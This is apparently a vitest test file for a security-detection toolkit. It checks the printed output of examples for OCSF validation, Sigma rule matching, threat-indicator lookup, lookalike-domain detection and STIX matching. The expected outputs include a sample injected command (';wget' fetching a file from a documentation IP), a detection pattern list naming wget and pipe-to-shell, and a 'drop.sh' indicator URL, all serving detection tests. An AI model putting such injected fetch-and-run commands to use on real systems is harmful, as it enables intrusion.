import { execFileSync } from "node:child_process";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { expect, it } from "vitest";

const examples = dirname(fileURLToPath(import.meta.url));

it.each([
  ["ocsf/validate.ts", "Network Activity\nsrc_endpoint.port: expected a port from 0 to 65535, got 70000\n"],
  ["devices/normalise.ts", "2026-03-02T08:00:00.000Z edge-1 class 3002 status 2\n"],
  [
    "sigma/match.ts",
    "Shell text in a portal request\n  url|contains: ;wget  in /portal?user=a;wget http://203.0.113.9/x\n",
  ],
  [
    "indicators/find.ts",
    "www.evil.example: evil.example (parent-domain)\n198.51.100.3: 198.51.100.0/24 (network)\nhttps://bad.example/drop.sh: bad.example/drop.sh (value)\nnotevil.example: none\n",
  ],
  [
    "sigma/to-clickhouse.ts",
    `SELECT event FROM events WHERE (arrayExists(t -> multiSearchAny(t, {sigma_p1:Array(String)}), sigma_v3))
{"sigma_p0":"url","sigma_p1":["$(",";wget ","|sh"]}\n`,
  ],
  [
    "lookalike/check.ts",
    `sophosfirewallupdate.com: sophosfirewallupdate.com resembles sophos.com (dictionary, strong)
www.sophos.com: ordinary
palo-alto-netwroks.example: palo-alto-netwroks.example resembles Palo Alto Networks (transposition, strong)
xn--shos-55dm.com: sорhos.com resembles sophos.com (cyrillic, strong)
osphos.com spohos.com sohpos.com sopohs.com sophso.com\n`,
  ],
  ["stix/match.ts", "observations 0 and 1 match\n1:25: expected AND, OR or ], found .113\n"],
])("%s prints what its reader expects", (file, expected) => {
  const output = execFileSync(
    process.execPath,
    ["--conditions=@breakwater/source", "--disable-warning=ExperimentalWarning", join(examples, file)],
    { encoding: "utf8" },
  );
  expect(output).toBe(expected);
});
